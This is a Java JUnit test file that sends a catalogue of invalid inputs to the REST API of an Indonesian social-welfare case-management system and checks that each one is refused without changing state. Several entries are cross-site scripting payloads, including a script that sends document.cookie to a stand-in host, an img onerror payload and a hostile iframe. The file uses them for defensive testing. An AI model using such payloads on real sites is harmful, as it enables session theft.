package id.intervensi.validation;

import static id.intervensi.CaseData.*;
import static id.intervensi.cycle.InterventionCycle.*;
import static org.assertj.core.api.Assertions.assertThat;

import id.intervensi.e2e.Rest;
import id.intervensi.e2e.RunningApp;
import id.intervensi.security.Cases;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.boot.test.web.server.LocalServerPort;

/**
 * A catalogue of bad inputs, each sent through the REST API as the user who would send it: every
 * one gets its status and a message in Bahasa Indonesia, and leaves the state as it was (the task
 * still open, the case's variables unchanged, no new case, no new deployment or definition). The
 * cases wait at their steps for the whole catalogue: a refused submission changes nothing, so the
 * next entry finds them exactly as the previous one did.
 */
@RunningApp
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class BadInputCatalogueRestTest {

  /** The form a bad input is sent to, or a deployment. */
  enum Target {
    START,
    INTAKE,
    ADMISSION,
    CONTRACT,
    REFERRAL,
    ASSESSMENT,
    PLAN,
    PLAN_APPROVAL,
    ACTIVITY,
    EVALUATION,
    TERMINATION,
    DEPLOY
  }

  record Step(String processInstanceId, String taskId, String user) {}

  @LocalServerPort int port;
  Cases cases;
  final Map<Target, Step> steps = new EnumMap<>(Target.class);

  static final String LONG_2001 = "a".repeat(2001);
  static final String LONG_4001 = "a".repeat(4001);
  static final String SCRIPT = "<script>fetch('https://jahat.example/'+document.cookie)</script>";
  static final String DATA_ERROR = "Data formulir tidak valid";

  @BeforeAll
  void prepareOneCaseWaitingAtEachStep() {
    cases = new Cases(port);
    steps.put(Target.INTAKE, waitAt(Target.INTAKE));
    steps.put(Target.ADMISSION, waitAt(Target.ADMISSION));
    steps.put(Target.CONTRACT, waitAt(Target.CONTRACT));
    steps.put(Target.REFERRAL, waitAt(Target.REFERRAL));
    steps.put(Target.ASSESSMENT, waitAt(Target.ASSESSMENT));
    steps.put(Target.PLAN, waitAt(Target.PLAN));
    steps.put(Target.PLAN_APPROVAL, waitAt(Target.PLAN_APPROVAL));
    steps.put(Target.ACTIVITY, waitAt(Target.ACTIVITY));
    steps.put(Target.EVALUATION, waitAt(Target.EVALUATION));
    steps.put(Target.TERMINATION, waitAt(Target.TERMINATION));
  }

  /** Walks a new case to {@code target} and claims the task there. */
  private Step waitAt(Target target) {
    String w = "peksos1";
    String s = "supervisor1";
    String pi = cases.open(w);
    if (target == Target.REFERRAL) {
      cases.work(w, pi, TASK_INTAKE_INTERVIEW, intake(false));
      return claim(w, pi, TASK_REFER_TO_OTHER_RESOURCE);
    }
    List<Object[]> path =
        List.of(
            new Object[] {Target.INTAKE, w, TASK_INTAKE_INTERVIEW, intake(true)},
            new Object[] {Target.ADMISSION, s, TASK_APPROVE_ADMISSION, admissionApproval(true)},
            new Object[] {Target.CONTRACT, w, TASK_SIGN_SERVICE_CONTRACT, serviceContract(true)},
            new Object[] {Target.ASSESSMENT, w, TASK_ASSESS_CLIENT, assessment()},
            new Object[] {Target.PLAN, w, TASK_PLAN_INTERVENTION, plan()},
            new Object[] {Target.PLAN_APPROVAL, s, TASK_APPROVE_PLAN, planApproval(true)},
            new Object[] {Target.ACTIVITY, w, TASK_CARRY_OUT_ACTIVITY, activityReport()},
            new Object[] {
              Target.EVALUATION, w, TASK_EVALUATE_INTERVENTION, evaluation("GOALS_REACHED")
            },
            new Object[] {Target.TERMINATION, w, TASK_TERMINATE, termination(false)});
    for (Object[] step : path) {
      String user = (String) step[1];
      String taskKey = (String) step[2];
      if (step[0] == target) {
        return claim(user, pi, taskKey);
      }
      @SuppressWarnings("unchecked")
      Map<String, Object> data = (Map<String, Object>) step[3];
      // two planned activities: both are carried out before the evaluation
      int times = TASK_CARRY_OUT_ACTIVITY.equals(taskKey) ? 2 : 1;
      for (int i = 0; i < times; i++) {
        String taskId = firstTask(user, pi, taskKey);
        cases.claim(user, taskId);
        assertThat(cases.submit(user, taskId, data).status()).isEqualTo(204);
      }
    }
    throw new IllegalArgumentException(target.name());
  }

  private Step claim(String user, String pi, String taskKey) {
    String taskId = firstTask(user, pi, taskKey);
    cases.claim(user, taskId);
    return new Step(pi, taskId, user);
  }

  private String firstTask(String user, String pi, String taskKey) {
    List<Map<String, Object>> tasks =
        cases
            .as(user)
            .get(
                "/engine-rest/task?maxResults=2000&processInstanceId="
                    + pi
                    + "&taskDefinitionKey="
                    + taskKey)
            .list();
    assertThat(tasks).as("%s at %s", pi, taskKey).isNotEmpty();
    return (String) tasks.get(0).get("id");
  }

  // ---------------------------------------------------------------------------------------------
  // the catalogue

  /**
   * How a bad input is sent: form data, REST variables as they are, a raw body, or a file to
   * deploy.
   */
  sealed interface Input permits Data, RestVariables, RawBody, Deployment {}

  record Data(Map<String, Object> values) implements Input {}

  record RestVariables(Map<String, Object> variables) implements Input {}

  record RawBody(String body) implements Input {}

  record Deployment(String fileName, String content) implements Input {}

  static Arguments bad(String name, Target target, Input input, int status, String... fragments) {
    return Arguments.of(name, target, input, status, List.of(fragments));
  }

  static Data data(Map<String, Object> base, String key, Object value) {
    return new Data(with(base, key, value));
  }

  static Map<String, Object> restVariable(Object value, String type) {
    return Map.of("value", value, "type", type);
  }

  static Stream<Arguments> catalogue() {
    Map<String, Object> opening = caseOpening(Cases.uniqueNik());
    return Stream.of(
        // case opening (start form)
        bad(
            "opening: name missing",
            Target.START,
            data(opening, "clientName", null),
            400,
            DATA_ERROR,
            "«Nama lengkap» wajib diisi"),
        bad(
            "opening: NIK of 5 digits",
            Target.START,
            data(opening, "clientNik", "12345"),
            400,
            "«NIK» tidak sesuai format"),
        bad(
            "opening: birth date as a number",
            Target.START,
            data(opening, "clientBirthDate", 19500312L),
            400,
            "«Tanggal lahir» harus berupa tanggal"),
        bad(
            "opening: birth date in the future",
            Target.START,
            data(opening, "clientBirthDate", "2090-01-01"),
            400,
            "Tanggal lahir tidak boleh di masa depan"),
        bad(
            "opening: unknown referral source",
            Target.START,
            data(opening, "referralSource", "ALIEN"),
            400,
            "«Sumber rujukan»",
            "tidak ada dalam pilihan"),
        bad(
            "opening: referrer name of 201 characters",
            Target.START,
            data(opening, "referrerName", "a".repeat(201)),
            400,
            "«Nama perujuk» maksimal 200 karakter"),
        bad(
            "opening: script in the name",
            Target.START,
            data(opening, "clientName", SCRIPT),
            400,
            "«Nama lengkap» tidak boleh berisi tag HTML"),
        bad(
            "opening: referral reason as an object",
            Target.START,
            data(opening, "referralReason", json("{\"a\":1}")),
            400,
            "«Alasan rujukan» harus berupa teks"),
        bad(
            "opening: sex as a boolean",
            Target.START,
            data(opening, "clientSex", true),
            400,
            "«Jenis kelamin»",
            "tidak ada dalam pilihan"),
        bad(
            "opening: unknown variable",
            Target.START,
            data(opening, "isAdmin", true),
            400,
            "«isAdmin» bukan bagian dari formulir"),
        bad(
            "opening: case number chosen by the caller",
            Target.START,
            data(opening, "caseNumber", "PSTW-2026-99999"),
            400,
            "«caseNumber» bukan bagian dari formulir"),
        bad(
            "opening: malformed JSON",
            Target.START,
            new RawBody("{\"variables\": {"),
            400,
            "bukan JSON yang valid"),
        bad(
            "opening: variables not an object",
            Target.START,
            new RawBody("{\"variables\": 42}"),
            400,
            "bukan JSON yang valid atau tidak sesuai bentuk"),

        // intake interview
        bad(
            "intake: decile as text",
            Target.INTAKE,
            data(intake(true), "dtsenDecile", "dua"),
            400,
            "«Desil DTSEN» harus berupa angka"),
        bad(
            "intake: decile 11",
            Target.INTAKE,
            data(intake(true), "dtsenDecile", 11L),
            400,
            "«Desil DTSEN» harus antara 1 dan 10"),
        bad(
            "intake: decile 2.5",
            Target.INTAKE,
            new RestVariables(Map.of("dtsenDecile", restVariable(2.5, "Double"))),
            400,
            "«Desil DTSEN» harus berupa bilangan bulat"),
        bad(
            "intake: decile 0",
            Target.INTAKE,
            data(intake(true), "dtsenDecile", 0L),
            400,
            "«Desil DTSEN» harus antara 1 dan 10"),
        bad(
            "intake: a decile for a client not registered in DTSEN",
            Target.INTAKE,
            data(intake(true), "dtsenNotRegistered", true),
            400,
            "«Desil DTSEN» harus dikosongkan bila klien tidak terdaftar di DTSEN"),
        bad(
            "intake: neglected as text",
            Target.INTAKE,
            data(intake(true), "neglected", "ya"),
            400,
            "«Klien terlantar» harus bernilai ya atau tidak"),
        bad(
            "intake: date as words",
            Target.INTAKE,
            data(intake(true), "intakeDate", "kemarin"),
            400,
            "«Tanggal wawancara intake» harus berupa tanggal"),
        bad(
            "intake: notes missing",
            Target.INTAKE,
            data(intake(true), "intakeNotes", null),
            400,
            "«Catatan wawancara intake» wajib diisi"),
        bad(
            "intake: notes of 4001 characters",
            Target.INTAKE,
            data(intake(true), "intakeNotes", LONG_4001),
            400,
            "«Catatan wawancara intake» maksimal 4000 karakter"),
        bad(
            "intake: image with onerror in expectations",
            Target.INTAKE,
            data(intake(true), "clientExpectations", "<img src=x onerror=alert(1)>"),
            400,
            "«Harapan klien» tidak boleh berisi tag HTML"),
        bad(
            "intake: eligibility decided by the caller",
            Target.INTAKE,
            data(intake(true), "eligible", true),
            400,
            "«eligible» bukan bagian dari formulir"),
        bad(
            "intake: decile declared Long with a text value",
            Target.INTAKE,
            new RestVariables(Map.of("dtsenDecile", restVariable("abc", "Long"))),
            400,
            "Permintaan tidak valid",
            "tipenya"),
        bad(
            "intake: unknown variable type",
            Target.INTAKE,
            new RestVariables(Map.of("dtsenDecile", restVariable("2", "Peretas"))),
            400,
            "Permintaan tidak valid"),
        bad(
            "intake: malformed JSON",
            Target.INTAKE,
            new RawBody("{\"variables\": {\"dtsenDecile\": "),
            400,
            "bukan JSON yang valid"),

        // admission approval
        bad(
            "admission: approval as text",
            Target.ADMISSION,
            data(admissionApproval(true), "admissionApproved", "yes"),
            400,
            "harus bernilai ya atau tidak"),
        bad(
            "admission: refused without a reason",
            Target.ADMISSION,
            data(admissionApproval(false), "admissionRefusalReason", ""),
            400,
            "«Alasan penerimaan tidak disetujui» wajib diisi"),
        bad(
            "admission: comments of 2001 characters",
            Target.ADMISSION,
            data(admissionApproval(true), "admissionComments", LONG_2001),
            400,
            "maksimal 2000 karakter"),
        bad(
            "admission: case number overwritten",
            Target.ADMISSION,
            data(admissionApproval(true), "caseNumber", "PSTW-1999-00001"),
            400,
            "«caseNumber» bukan bagian dari formulir"),

        // service contract
        bad(
            "contract: unknown service",
            Target.CONTRACT,
            data(serviceContract(true), "servicesAgreed", json("[\"FREE_MONEY\"]")),
            400,
            "«Layanan yang disepakati»",
            "tidak ada dalam pilihan"),
        bad(
            "contract: services as text",
            Target.CONTRACT,
            data(serviceContract(true), "servicesAgreed", "BASIC_NEEDS"),
            400,
            "«Layanan yang disepakati» harus berupa daftar pilihan"),
        bad(
            "contract: consent without who gave it",
            Target.CONTRACT,
            data(serviceContract(true), "consentGivenBy", null),
            400,
            "«Persetujuan diberikan oleh» wajib diisi"),
        bad(
            "contract: refusal without a reason",
            Target.CONTRACT,
            data(serviceContract(false), "consentRefusalReason", null),
            400,
            "«Alasan penolakan» wajib diisi"),
        bad(
            "contract: start date as a number",
            Target.CONTRACT,
            data(serviceContract(true), "contractStartDate", 20260101L),
            400,
            "«Tanggal mulai kontrak» harus berupa tanggal"),

        // referral
        bad(
            "referral: unknown resource type",
            Target.REFERRAL,
            data(referral(), "referralResourceType", "MOON"),
            400,
            "tidak ada dalam pilihan"),
        bad(
            "referral: resource name missing",
            Target.REFERRAL,
            data(referral(), "referralResourceName", null),
            400,
            "wajib diisi"),
        bad(
            "referral: notes with an iframe",
            Target.REFERRAL,
            data(referral(), "referralNotes", "<iframe src=//jahat.example>"),
            400,
            "tidak boleh berisi tag HTML"),

        // assessment
        bad(
            "assessment: Barthel item out of its options",
            Target.ASSESSMENT,
            data(assessment(), "barthelFeeding", "7"),
            400,
            "«1. Makan»",
            "tidak ada dalam pilihan"),
        bad(
            "assessment: information given tomorrow",
            Target.ASSESSMENT,
            data(
                assessment(),
                "assessmentInformationDate",
                LocalDate.now(HOME_ZONE).plusDays(1).toString()),
            400,
            "«Tanggal informasi diberikan» tidak boleh di masa depan"),
        bad(
            "assessment: GDS-15 item answered with an unknown code",
            Target.ASSESSMENT,
            data(assessment(), "gds01", "UNKNOWN"),
            400,
            "tidak ada dalam pilihan"),
        bad(
            "assessment: GDS item missing",
            Target.ASSESSMENT,
            data(assessment(), "gds01", null),
            400,
            "wajib diisi"),
        bad(
            "assessment: problem statement as a number",
            Target.ASSESSMENT,
            data(assessment(), "problemStatement", 42L),
            400,
            "harus berupa teks"),
        bad(
            "assessment: needs as an object",
            Target.ASSESSMENT,
            data(assessment(), "needs", json("{\"x\":1}")),
            400,
            "harus berupa daftar pilihan"),
        bad(
            "assessment: baseline score chosen by the caller",
            Target.ASSESSMENT,
            data(assessment(), "baselineBarthelScore", 100L),
            400,
            "«baselineBarthelScore» bukan bagian dari formulir"),

        // intervention plan
        bad(
            "plan: no goals",
            Target.PLAN,
            data(plan(), "goals", json("[]")),
            400,
            "paling sedikit satu tujuan"),
        bad(
            "plan: evaluation interval in words",
            Target.PLAN,
            data(plan(), "evaluationInterval", "30 hari"),
            400,
            "jangka waktu yang tersedia"),
        bad(
            "plan: a span not offered (ISO-8601 but not a choice)",
            Target.PLAN,
            data(plan(), "evaluationInterval", "P45D"),
            400,
            "«Rentang pemantauan berkala» harus salah satu jangka waktu yang tersedia: 1 minggu"),
        bad(
            "plan: unknown welfare function",
            Target.PLAN,
            data(
                plan(),
                "activities",
                json(
                    "[{\"name\":\"Senam\",\"welfareFunction\":\"MAGIC\","
                        + "\"method\":\"GROUP_WORK\",\"atensiComponent\":\"SOCIAL_CARE\","
                        + "\"responsible\":\"Dedi\",\"schedule\":\"2026-12-01\"}]")),
            400,
            "baris 1",
            "tidak ada dalam pilihan"),
        bad(
            "plan: unknown ATENSI component",
            Target.PLAN,
            data(
                plan(),
                "activities",
                json(
                    "[{\"name\":\"Senam\",\"welfareFunction\":\"SUPPORT\","
                        + "\"method\":\"GROUP_WORK\",\"atensiComponent\":\"RECREATION\","
                        + "\"responsible\":\"Dedi\",\"schedule\":\"2026-12-01\"}]")),
            400,
            "Kegiatan ke-1: pilih komponen ATENSI-nya",
            "RECREATION",
            "tidak dikenal"),
        bad(
            "plan: activity without an ATENSI component",
            Target.PLAN,
            data(
                plan(),
                "activities",
                json(
                    "[{\"name\":\"Senam\",\"welfareFunction\":\"SUPPORT\","
                        + "\"method\":\"GROUP_WORK\","
                        + "\"responsible\":\"Dedi\",\"schedule\":\"2026-12-01\"}]")),
            400,
            "«Komponen ATENSI» wajib diisi"),
        bad(
            "plan: goals as text",
            Target.PLAN,
            data(plan(), "goals", "lebih bahagia"),
            400,
            "harus berupa daftar"),
        bad(
            "plan: activity schedule in words",
            Target.PLAN,
            data(
                plan(),
                "activities",
                json(
                    "[{\"name\":\"Senam\",\"welfareFunction\":\"SUPPORT\","
                        + "\"method\":\"GROUP_WORK\",\"atensiComponent\":\"SOCIAL_CARE\","
                        + "\"responsible\":\"Dedi\",\"schedule\":\"besok\"}]")),
            400,
            "harus berupa tanggal"),

        // plan approval
        bad(
            "plan approval: sent back without comments",
            Target.PLAN_APPROVAL,
            data(planApproval(false), "planReviewComments", null),
            400,
            "«Catatan revisi» wajib diisi"),

        // activity report
        bad(
            "activity: unknown attendance",
            Target.ACTIVITY,
            data(activityReport(), "attendance", "LATE"),
            400,
            "tidak ada dalam pilihan"),
        bad(
            "activity: date missing",
            Target.ACTIVITY,
            data(activityReport(), "activityDate", null),
            400,
            "wajib diisi"),
        bad(
            "activity: script in the case note",
            Target.ACTIVITY,
            data(activityReport(), "caseNote", SCRIPT),
            400,
            "tidak boleh berisi tag HTML"),

        // evaluation
        bad(
            "evaluation: unknown outcome",
            Target.EVALUATION,
            data(evaluation("GOALS_REACHED"), "evaluationOutcome", "DONE"),
            400,
            "«Keputusan evaluasi»",
            "tidak ada dalam pilihan"),
        bad(
            "evaluation: re-planning without obstacles",
            Target.EVALUATION,
            data(evaluation("REPLAN"), "obstacles", ""),
            400,
            "«Hambatan» wajib diisi bila rencana intervensi disusun ulang"),
        bad(
            "evaluation: no informant",
            Target.EVALUATION,
            data(evaluation("GOALS_REACHED"), "evaluationInformant", ""),
            400,
            "«Pemberi informasi» wajib diisi"),
        bad(
            "evaluation: a goal row without attainment",
            Target.EVALUATION,
            data(evaluation("GOALS_REACHED"), "goalAttainment", json("[{\"goal\":\"Aktif\"}]")),
            400,
            "«Ketercapaian tujuan» baris 1",
            "«Ketercapaian» wajib diisi"),

        // termination
        bad(
            "termination: summary emptied (its draft from the case removed)",
            Target.TERMINATION,
            data(termination(false), "terminationSummary", ""),
            400,
            "wajib diisi"),
        bad(
            "termination: after-care interval in words",
            Target.TERMINATION,
            data(termination(true), "afterCareInterval", "90 hari"),
            400,
            "jangka waktu yang tersedia"),
        bad(
            "termination: after-care flag as text",
            Target.TERMINATION,
            data(termination(false), "afterCareFollowUp", "true"),
            400,
            "harus bernilai ya atau tidak"),

        // deployments by a manager
        bad(
            "deploy: BPMN that is not XML",
            Target.DEPLOY,
            new Deployment("rusak.bpmn", "ini bukan XML"),
            400,
            "Model tidak valid"),
        bad(
            "deploy: BPMN with a flow to nowhere",
            Target.DEPLOY,
            new Deployment("rusak.bpmn", brokenBpmn()),
            400,
            "Model tidak valid"),
        bad(
            "deploy: DMN that is not XML",
            Target.DEPLOY,
            new Deployment("rusak.dmn", "<definitions><decision"),
            400,
            "Model tidak valid"),
        bad(
            "deploy: form that is not JSON",
            Target.DEPLOY,
            new Deployment("rusak.form", "{\"id\": \"rusak\", \"components\": ["),
            400,
            "Deployment ditolak",
            "bukan JSON yang valid"));
  }

  static String brokenBpmn() {
    return new String(Cases.minimalProcess("rusak"), StandardCharsets.UTF_8)
        .replace("targetRef=\"EndEvent_1\"", "targetRef=\"Tidak_Ada\"");
  }

  // ---------------------------------------------------------------------------------------------

  @ParameterizedTest(name = "{0}")
  @MethodSource("catalogue")
  void isRefusedClearlyAndChangesNothing(
      String name, Target target, Input input, int status, List<String> fragments) {
    Object before = state(target);

    Rest.Answer answer = send(target, input);

    assertThat(answer.status()).as("%s: %s", name, answer.body()).isEqualTo(status);
    for (String fragment : fragments) {
      assertThat(answer.message()).as(name).contains(fragment);
    }
    assertThat(state(target)).as("%s leaves the state unchanged", name).isEqualTo(before);
  }

  private Rest.Answer send(Target target, Input input) {
    if (input instanceof Deployment file) {
      return cases.deploy(
          "manajer1", "rusak", file.fileName(), file.content().getBytes(StandardCharsets.UTF_8));
    }
    String user = target == Target.START ? "peksos1" : steps.get(target).user();
    String path =
        target == Target.START
            ? "/engine-rest/process-definition/key/" + PROCESS_ID + "/submit-form"
            : "/engine-rest/task/" + steps.get(target).taskId() + "/submit-form";
    Rest rest = cases.as(user);
    if (input instanceof Data d) {
      return rest.post(path, Map.of("variables", toRest(d.values())));
    }
    if (input instanceof RestVariables v) {
      return rest.post(path, Map.of("variables", v.variables()));
    }
    return rest.postRaw(path, ((RawBody) input).body());
  }

  /**
   * What must not change: the case (task open, variables, the task's own variables), or the counts
   * of cases or models.
   */
  private Object state(Target target) {
    Rest manager = cases.as("manajer1");
    return switch (target) {
      case START ->
          List.of(
              manager
                  .get("/engine-rest/process-instance/count?processDefinitionKey=" + PROCESS_ID)
                  .body(),
              manager
                  .get(
                      "/engine-rest/history/process-instance/count?processDefinitionKey="
                          + PROCESS_ID)
                  .body());
      case DEPLOY ->
          List.of(
              manager.get("/engine-rest/deployment/count").body(),
              manager.get("/engine-rest/process-definition/count").body(),
              manager.get("/engine-rest/decision-definition/count").body());
      default -> {
        Step step = steps.get(target);
        Rest.Answer task = manager.get("/engine-rest/task/" + step.taskId());
        assertThat(task.status()).as("the task is still open").isEqualTo(200);
        yield List.of(
            task.map().get("assignee"),
            manager
                .get("/engine-rest/process-instance/" + step.processInstanceId() + "/variables")
                .body(),
            manager.get("/engine-rest/task/" + step.taskId() + "/localVariables").body());
      }
    };
  }
}
